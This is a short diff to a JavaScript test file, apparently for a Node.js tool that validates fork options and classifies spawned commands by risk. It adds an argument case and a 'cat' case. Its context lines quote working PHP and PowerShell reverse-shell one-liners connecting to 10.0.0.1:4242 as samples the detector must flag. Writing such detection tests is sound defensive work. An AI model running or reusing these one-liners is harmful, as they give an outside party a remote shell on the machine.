@@ -101,7 +101,7 @@ test('fork: execPath runs execArgv, the module and its arguments', (t) => sameAs
   [NOOP, ['a', 1], { execPath: ECHO, execArgv: ['--x'], silent: true }], [NOOP, [], { execPath: ECHO, execArgv: 'ab', silent: true }],
   [Buffer.from(NOOP), [], { execArgv: [] }], [pathToFileURL(NOOP), ['u'], { execArgv: [] }], [NOOP, ['x'], { execPath: '', execArgv: [] }],
   [NOOP, [], { execPath: ECHO, execArgv: [], argv0: 'node', silent: true }],
-  [5], [NOOP, 'a'], [NOOP, [], 'options'], ['a\0b'], [NOOP, [], { execArgv: ['\0'] }], [NOOP, [], { execPath: 5 }],
+  [5], [NOOP, 'a'], [NOOP, [], 'options'], ['a\0b'], [NOOP, [], { stdio: ['pipe', 'pipe', 'pipe'] }], [NOOP, [], { execArgv: ['\0'] }], [NOOP, [], { execPath: 5 }],
   [new URL('http://example.com/x.js')], [NOOP, [], { execArgv: 5 }]
 ]))
 
@@ -332,6 +332,7 @@ test('verdicts: reverse shells, even for programs on the allow list', async (t) 
   ruled(t, 'reverse-shell', 'php', [['exec', 'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("sh <&3 >&3 2>&3");\'']])
   ruled(t, 'reverse-shell', 'powershell', [['spawn', 'powershell', ['-nop', '-c', '$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242)']]])
   ruled(t, 'interpreter', 'python', [['exec', 'python -c "print(empty)"']]) // `pty` inside a word is not the pty module
+  ruled(t, 'unlisted', 'cat', [['exec', 'cat $HOME/tcp/notes']]) // a variable before /tcp/ counts in a redirection only
   ruled(t, undefined, 'nc', [['exec', 'nc -z db 5432']])
 })
 
